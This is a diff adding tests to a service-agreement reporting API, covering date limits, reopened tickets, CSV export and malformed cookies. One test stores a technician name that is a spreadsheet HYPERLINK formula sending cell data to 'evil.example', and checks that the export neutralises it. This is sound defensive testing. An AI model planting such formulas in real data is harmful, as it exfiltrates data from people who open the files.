@@ -97,6 +97,11 @@ describe('periods', () => {
     expect(overall.breaches.damages).toBe(0)
   })
 
+  it('a leap year is the longest period', async () => {
+    const response = await world.t.admin('/api/reports/agreement?from=2028-01-01&to=2028-12-31')
+    expect(response.status).toBe(200)
+  })
+
   it('a single day is cut at midnight service time', async () => {
     const lastDay = await world.t.getJson('/api/reports/agreement?from=2026-11-30&to=2026-11-30')
     expect(lastDay.overall.requests.byType).toMatchObject({ maintenance: 1, repair: 0 })
@@ -109,6 +114,9 @@ describe('periods', () => {
     ['?from=2026-11-31&to=2026-12-01', /dates/],
     ['?from=2026-12-01&to=2026-11-01', /before/],
     ['?from=yesterday&to=2026-11-01', /from/],
+    // Year 0 would reach PostgreSQL, which has none; years far out are no one's service period.
+    ['?from=0001-01-01&to=2026-11-01', /between 1900 and 2999/],
+    ['?from=2025-01-01&to=2026-11-30', /at most 366 days/],
   ])('answers 400 to %s', async (query, message) => {
     const response = await world.t.admin(`/api/reports/agreement${query}`)
     expect(response.status).toBe(400)
@@ -206,5 +214,32 @@ describe('npm run report', () => {
     expect(markdown).toContain('| Repair | 2 |')
     expect(markdown).toContain('| Spare parts | 0 |')
     expect(await run('csv')).toContain('overall,,responded_within_24h,3,4,0.75')
+  })
+})
+
+// These change the fixture: they run last.
+describe('after the fixture changes', () => {
+  it('a reopened service no longer counts as completed, until it is confirmed again (§3.1f)', async () => {
+    const reopen = await world.t.admin('/api/tickets/SR-2026-000001/actions', { method: 'POST', body: JSON.stringify({ action: 'reopen', reason: 'The drum stopped again' }) })
+    expect(reopen.status).toBe(200)
+    // Completed in November: T2 5 days, T3 7 days; T1 is open again.
+    expect((await november()).overall.cycleDays).toEqual({ total: 12, count: 2, average: 6, median: 6 })
+  })
+
+  it('a technician named like a formula is text in the CSV, not a formula', async () => {
+    const created = await world.t.admin('/api/technicians', { method: 'POST', body: JSON.stringify({ name: '=HYPERLINK("https://evil.example/?"&A2,"ok")' }) })
+    expect(created.status).toBe(201)
+    const rows = parseCsv((await (await world.t.admin('/api/reports/agreement.csv?from=2026-11-01&to=2026-11-30')).text()).replace(/^\ufeff/, ''))
+    const keys = new Set(rows.filter((row) => row[3] === 'technician').map((row) => row[4]))
+    expect(keys).toContain(`'=HYPERLINK("https://evil.example/?"&A2,"ok")`)
+    expect([...keys].some((key) => /^[=+\-@]/.test(key!))).toBe(false)
+  })
+
+  it('a malformed session cookie is no session: the sign-in page, or 401', async () => {
+    const headers = { cookie: 'aftercare_session=%E0%A4%A' }
+    const page = await fetch(`${world.t.url}/dashboard`, { headers })
+    expect(page.status).toBe(200)
+    expect(await page.text()).toContain('type="password"')
+    expect((await fetch(`${world.t.url}/api/reports/trend`, { headers })).status).toBe(401)
   })
 })
